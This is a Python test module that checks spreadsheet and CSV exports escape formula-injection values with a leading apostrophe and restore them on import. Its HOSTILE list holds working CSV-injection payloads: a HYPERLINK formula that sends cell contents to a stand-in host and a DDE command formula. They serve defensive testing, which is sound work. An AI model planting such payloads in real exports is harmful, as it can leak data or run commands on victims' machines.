"""No formula in an export (issue 32.7): a text an editor wrote that a spreadsheet would
run (``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``, ``+``, ``-``, ``@``, a leading tab or CR)
is written with a leading ``'`` (OWASP), in the workbook as a text cell, never a
formula; every importer of ours takes the ``'`` off again, so the value comes back
unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from graph.formats.cells import DANGEROUS, neutralise, restore
from graph.formats.csvfolder import read_folder, write_folder
from graph.formats.hsds import read_hsds, write_hsds
from graph.formats.tables import to_tables
from graph.formats.workbook import read_workbook, workbook_bytes
from graph.network import Network
from seeds import load_seed

HOSTILE = ['=HYPERLINK("https://boese.example/?d="&A1,"Hilfe")', "=cmd|' /C calc'!A0",
           "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "'=1+1", "''=2"]


def hostile_network() -> Network:
    """Brunnenstraße with providers and services named like formulas."""
    data = load_seed("brunnenstrasse").model_dump(mode="json", exclude_none=True)
    for entry, name in zip(data["providers"], HOSTILE, strict=False):
        entry["name"] = name
    for entry, name in zip(data["services"], reversed(HOSTILE), strict=False):
        entry["name"] = name
        entry["description"] = "\t=1+1"  # a leading tab: trimmed, then a formula
    return Network.model_validate(data)


def _cells_of_csv(text: str) -> list[str]:
    delimiter = ";" if text.splitlines()[0].count(";") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def test_workbook_has_no_formula_and_reads_back_unchanged(tmp_path: Path) -> None:
    net = hostile_network()
    path = tmp_path / "kette.xlsx"
    path.write_bytes(workbook_bytes(to_tables(net)))
    wb = load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert not [t for t in texts if t[:1] in DANGEROUS]
    assert "'=1+1" in texts and "'''=2" in texts
    assert read_workbook(path).network == net


def test_csv_folder_has_no_formula_and_reads_back_unchanged(tmp_path: Path) -> None:
    net = hostile_network()
    write_folder(net, tmp_path / "kette")
    for path in (tmp_path / "kette").glob("*.csv"):
        cells = _cells_of_csv(path.read_text(encoding="utf-8-sig"))
        assert not [c for c in cells if c[:1] in DANGEROUS], path.name
    assert read_folder(tmp_path / "kette").network == net


def test_hsds_package_has_no_formula_and_reads_back_unchanged(tmp_path: Path) -> None:
    net = hostile_network()
    write_hsds(net, tmp_path / "paket", "hsds-csv")
    for path in (tmp_path / "paket").glob("*.csv"):
        cells = _cells_of_csv(path.read_text(encoding="utf-8"))
        assert not [c for c in cells if c[:1] in DANGEROUS], path.name
    back = read_hsds(tmp_path / "paket").network
    assert back is not None
    assert {p.name for p in back.providers} >= {p.name for p in net.providers}
    assert {s.name for s in back.services} == {s.name for s in net.services}


@pytest.mark.parametrize("text", ["=1+1", "\t=1+1", "\r=1", "'", "'a", "''=1", "a=b", "-"])
def test_neutralise_examples(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert neutralise(text)[:1] not in DANGEROUS


@given(st.text(max_size=20))
def test_neutralise_is_undone_by_restore(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert neutralise(text)[:1] not in DANGEROUS


def test_committee_workbook_has_no_formula() -> None:
    import datetime as dt

    from visualisation.committee import committee_workbook

    wb = load_workbook(io.BytesIO(committee_workbook(hostile_network(), dt.date(2026, 11, 22))))
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                seen.append(cell.value)
    assert "'=1+1" in seen
